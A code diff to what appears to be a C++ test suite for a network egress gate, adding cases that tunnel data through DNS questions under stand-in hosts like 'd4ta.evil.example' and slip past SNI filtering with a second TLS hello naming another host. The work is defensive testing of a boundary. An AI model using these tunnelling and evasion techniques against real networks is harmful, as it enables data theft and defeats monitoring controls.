@@ -1,5 +1,7 @@
 // Around the gate by name: names that look allowed, questions that carry data, hellos that say one name and mean
 // another.
+#include <sys/socket.h>
+
 #include "boundary/network.h"
 #include "evasion.h"
 #include "families.h"
@@ -57,7 +59,17 @@ Outcome ask(const std::string& name, int count, const std::string& server = name
 Outcome own_server(const Args&) { return ask("s3cret.evil.example", 1, gate::kNameServer); }
 Outcome tunnel_denied(const Args&) { return ask("d4ta.evil.example", 20); }
 Outcome tunnel_allowed(const Args&) { return ask("tunnel.example", 400); }
-Outcome tunnel_long_labels(const Args&) { return ask(std::string(63, 'x') + ".long-d4ta.evil.example", 5); }
+// Below a name that is allowed: 3 labels of nearly all the letters that fit into a name.
+Outcome tunnel_long_labels(const Args&) {
+  std::string last;
+  constexpr int kCount = 60;
+  for (int i = 0; i < kCount; ++i) {
+    std::string data;
+    for (char c : {'x', 'y', 'z'}) data += fmt::format("{}{:02}.", std::string(58, c), i);
+    last = resolve(data + "long-d4ta.tunnel.example");
+  }
+  return contained(fmt::format("asked {} times, the last answer: {}", kCount, last));
+}
 
 // ---- TLS: through a name that is allowed, with a hello for one that is not
 // --------------------------------------------
@@ -104,6 +116,23 @@ Outcome sni_encrypted(const Args&) {
   return fronted(tls_hello("a.example", extension(0xfe0d, body)));
 }
 Outcome alert_first(const Args&) { return fronted("\x15\x03\x01\x00\x02\x01\x70"s + tls_hello("b.example")); }
+// The server asks for another hello, and that one says another name.
+Outcome second_hello(bool waits) {
+  auto address = resolve("a.example");
+  if (!is_address(address)) return untried("a.example: " + address);
+  Fd fd = dial(address, gate::kRetryPort);
+  std::string first = tls_hello("a.example"), second = tls_hello("b.example"), asked(gate::retry_request().size(), 0);
+  if (!waits) first += second;
+  (void)!::send(fd.get(), first.data(), first.size(), MSG_NOSIGNAL);
+  if (::recv(fd.get(), asked.data(), asked.size(), MSG_WAITALL) != static_cast<ssize_t>(asked.size()))
+    return contained("the server's answer did not come");
+  if (waits) (void)!::send(fd.get(), second.data(), second.size(), MSG_NOSIGNAL);
+  ::shutdown(fd.get(), SHUT_WR);
+  auto back = read_to_end(fd);
+  return waits ? got(back) : breach("both were taken");
+}
+Outcome second_of_another(const Args&) { return second_hello(true); }
+Outcome second_at_once(const Args&) { return second_hello(false); }
 Outcome ssl2(const Args&) { return fronted("\x80\x2e\x01\x03\x01"s + std::string(43, 'x')); }
 Outcome too_large(const Args&) {
   std::string much;
@@ -149,10 +178,10 @@ constexpr Program kPrograms[] = {
     leak("dns-to-a-server-of-ones-own", "sends data in a question to a name server of its own", own_server, "s3cret",
          0),
     leak("dns-tunnel-denied", "sends data in questions below a denied name", tunnel_denied, "d4ta.evil", 0),
-    leak("dns-tunnel-long-labels", "sends data in questions with the longest labels", tunnel_long_labels, "long-d4ta",
-         0),
+    leak("dns-tunnel-long-labels", "sends data in the longest labels below an allowed wildcard", tunnel_long_labels,
+         "long-d4ta", 50),
     leak("dns-tunnel-below-a-wildcard", "sends data in hundreds of questions below an allowed wildcard", tunnel_allowed,
-         "tunnel.example", 300),
+         "tunnel.example", 250),
     evasion("sni-of-another", "says another name in its TLS hello than it connected to", sni_of_another, kReset),
     evasion("sni-missing", "says no name in its TLS hello", sni_missing, kReset),
     evasion("sni-byte-by-byte", "says another name, a byte at a time", sni_bytewise, kReset),
@@ -162,6 +191,10 @@ constexpr Program kPrograms[] = {
     evasion("sni-two-names", "says two names in one list", sni_two_names, kReset),
     evasion("sni-twice", "says a name in each of two extensions", sni_twice, kReset),
     evasion("sni-encrypted", "says the name, and perhaps another one encrypted", sni_encrypted, kReset),
+    evasion("second-hello-of-another", "says another name when the server asks for a second hello", second_of_another,
+            kReset),
+    evasion("second-hello-at-once", "sends a second hello for another name without being asked", second_at_once,
+            kReset),
     evasion("alert-before-hello", "sends an alert in front of its hello", alert_first, kReset),
     evasion("hello-of-ssl2", "sends a hello in the form of SSL 2", ssl2, kReset),
     evasion("hello-too-large", "sends a hello of 150 KB", too_large, kReset),
